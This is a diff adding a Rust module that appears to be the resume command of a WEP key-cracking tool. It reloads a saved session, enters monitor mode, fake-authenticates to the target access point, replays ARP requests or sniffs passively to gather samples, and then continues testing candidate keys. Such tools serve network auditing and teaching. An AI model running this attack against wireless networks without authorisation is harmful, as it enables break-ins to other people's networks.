@@ -0,0 +1,161 @@
+use std::{
+    path::PathBuf,
+    sync::{atomic::AtomicBool, Arc},
+};
+
+use anyhow::Context;
+use ieee80211::Frame;
+use serde_json::json;
+
+use crate::{
+    arp_supplier::ARPSampleSupplier,
+    keycracker::{KeyCracker, KeyCrackerPhase, KeyCrackerSampleProvider},
+    passive_supplier::PassiveSampleSupplier,
+    plaintext,
+    session::{Session, SessionAttack, SessionWriter},
+};
+
+use super::{
+    emit_event, enter_monitor_mode, fake_authenticate, lookup_channel, replay_arp_requests,
+    run_key_cracker, Args, BruteForceArgs, VoteTableArgs,
+};
+
+#[derive(clap::Args)]
+pub struct ResumeArgs {
+    #[arg(help = "The session file to resume")]
+    session_file: PathBuf,
+
+    #[arg(long, help = "The wireless device to continue the attack with")]
+    device: Option<String>,
+
+    #[arg(
+        long,
+        help = "Stop collecting samples and immediately start testing candidate keys"
+    )]
+    skip_to_testing: bool,
+
+    #[command(flatten)]
+    votes: VoteTableArgs,
+
+    #[command(flatten)]
+    brute_force: BruteForceArgs,
+}
+
+pub(super) fn run(
+    resume_args: &ResumeArgs,
+    args: &Args,
+    should_quit: &Arc<AtomicBool>,
+) -> anyhow::Result<()> {
+    let session = Session::load(&resume_args.session_file).with_context(|| {
+        format!(
+            "failed to load session {}",
+            resume_args.session_file.display()
+        )
+    })?;
+
+    //Settings from the command line / config file override the saved ones
+    let settings = args.keycracker_settings(session.cracker.settings)?;
+    resume_args.brute_force.check(&settings)?;
+    if settings.num_test_frames > 0 && session.cracker.test_frames.is_empty() {
+        anyhow::bail!("the session has no frames to verify keys using ICVs with");
+    }
+
+    emit_event(json!({
+        "event": "session_loaded",
+        "samples": session.cracker.votes.num_samples,
+        "tested_keys": session.cracker.num_tested_keys,
+    }));
+
+    //Continue collecting samples if the session hasn't gotten further yet
+    let collect_samples =
+        session.cracker.phase == KeyCrackerPhase::SampleCollection && !resume_args.skip_to_testing;
+    if collect_samples {
+        settings.check_keystream_len(plaintext::MAX_PREDICTED_PLAINTEXT_LEN)?;
+    }
+
+    //The fake auth keeper has to be dropped before the monitor, as its thread uses the monitor's interface
+    let mut monitor = None;
+    let mut fake_auth_keeper = None;
+
+    let sample_prov: Box<KeyCrackerSampleProvider> = if collect_samples {
+        let Some(target) = &session.target else {
+            anyhow::bail!(
+                "the session has no attack target to collect more samples from; use --skip-to-testing to test candidate keys using the existing samples"
+            );
+        };
+        let Some(device) = &resume_args.device else {
+            anyhow::bail!("a --device is required to continue collecting samples");
+        };
+
+        //Switch to the target channel and continue the attack
+        let monitor = monitor.insert(enter_monitor_mode(device, args)?);
+        monitor
+            .set_channel(lookup_channel(&monitor, target.channel)?)
+            .context("failed to switch to the target channel")?;
+
+        match &target.attack {
+            SessionAttack::ARPReplay {
+                client,
+                arp_request,
+                fake_auth,
+            } => {
+                //Our own MAC address has to be associated with the AP again before it accepts the requests
+                if let Some(fake_auth) = fake_auth {
+                    fake_auth_keeper = Some(fake_authenticate(monitor, target.bssid, fake_auth)?);
+                }
+
+                //The session doesn't record how the ARP request was obtained, so it can't be re-captured
+                replay_arp_requests(ARPSampleSupplier::new(
+                    monitor.clone(),
+                    *client,
+                    target.bssid,
+                    Frame::new(arp_request.clone()),
+                    None,
+                ))
+            }
+            SessionAttack::Passive => {
+                let mut sample_prov = PassiveSampleSupplier::new(monitor.clone(), target.bssid);
+                Box::new(move |should_exit| sample_prov.provide_sample(should_exit))
+            }
+        }
+    } else {
+        Box::new(|_| None)
+    };
+
+    let mut cracker =
+        KeyCracker::restore(settings, sample_prov, should_quit.clone(), &session.cracker)
+            .context("failed to restore the key cracker")?;
+
+    let bssid = session.target.as_ref().map(|target| target.bssid);
+    resume_args.votes.import(&mut cracker, bssid)?;
+
+    if resume_args.skip_to_testing {
+        cracker.skip_to_key_testing()?;
+    }
+
+    //Keep saving to the resumed session file unless told otherwise
+    let session_path = args
+        .session
+        .clone()
+        .unwrap_or_else(|| resume_args.session_file.clone());
+
+    let res = run_key_cracker(
+        cracker,
+        || false,
+        Some(SessionWriter::new(session_path, session.target)),
+        &resume_args.votes,
+        bssid,
+        &resume_args.brute_force,
+        should_quit,
+    );
+
+    if let Some(keeper) = fake_auth_keeper {
+        emit_event(json!({
+            "event": "fake_auth_stopped",
+            "reassociations": keeper.num_reassociations(),
+            "failures": keeper.num_failures(),
+        }));
+    }
+
+    res.map(|_| ())
+}